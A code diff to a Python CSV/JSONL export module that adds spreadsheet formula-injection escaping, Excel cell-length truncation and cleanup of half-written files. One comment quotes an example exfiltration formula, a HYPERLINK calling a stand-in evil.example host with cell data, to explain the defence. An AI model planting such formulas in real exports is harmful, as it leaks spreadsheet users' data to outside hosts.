@@ -4,12 +4,37 @@ from __future__ import annotations
 
 import csv
 import json
-from collections.abc import Iterable
+from collections.abc import Callable, Iterable
+from pathlib import Path
 from typing import TextIO
 
 CSV_COLUMNS = ["id", "published_at", "title", "source_id", "source_name", "origin", "url",
                "regions", "topics", "relevance", "language", "script", "cluster_id",
-               "is_first_in_cluster", "gone_at", "text"]
+               "is_first_in_cluster", "gone_at", "text_truncated", "text"]
+
+# Excel keeps at most this many characters in a cell; a longer one spills into the
+# rows below and shifts every later record.
+EXCEL_CELL_LIMIT = 32_767
+# Excel (and LibreOffice) run a cell that starts with one of these as a formula: a page
+# titled =HYPERLINK("http://evil.example/?x="&A1, …) would send the sheet's data away.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+Writer = Callable[[Iterable[dict], TextIO], int]
+
+
+def csv_cell(value: object) -> str:
+    """One spreadsheet-safe CSV cell; every CSV cyz writes goes through it.
+
+    A cell that a spreadsheet would read as a formula gets a leading single quote
+    (OWASP's advice: shown as text, not run); one over Excel's cell limit is cut and
+    ends with "…".
+    """
+    text = "" if value is None else str(value)
+    if text.startswith(_FORMULA_START):
+        text = "'" + text
+    if len(text) > EXCEL_CELL_LIMIT:
+        text = text[:EXCEL_CELL_LIMIT - 1] + "…"
+    return text
 
 
 def write_jsonl(records: Iterable[dict], out: TextIO) -> int:
@@ -35,6 +60,21 @@ def write_csv(records: Iterable[dict], out: TextIO) -> int:
                 value = ";".join(f"{r['name']}:{r['count']}" for r in value or [])
             elif isinstance(value, list):
                 value = ";".join(map(str, value))
-            row.append("" if value is None else value)
+            row.append(csv_cell(value))
         writer.writerow(row)
     return n
+
+
+def write_file(path: Path, writer: Writer, records: Iterable[dict]) -> int:
+    """Write `records` to `path`; raises OSError (missing directory, disk full, ...).
+
+    A write that fails half-way removes the file: a truncated CSV opens in Excel as if
+    it were complete. Devices and pipes (/dev/stdout, a FIFO) are left alone.
+    """
+    try:
+        with open(path, "w", encoding="utf-8", newline="") as fh:
+            return writer(records, fh)
+    except OSError:
+        if path.is_file():
+            path.unlink(missing_ok=True)
+        raise
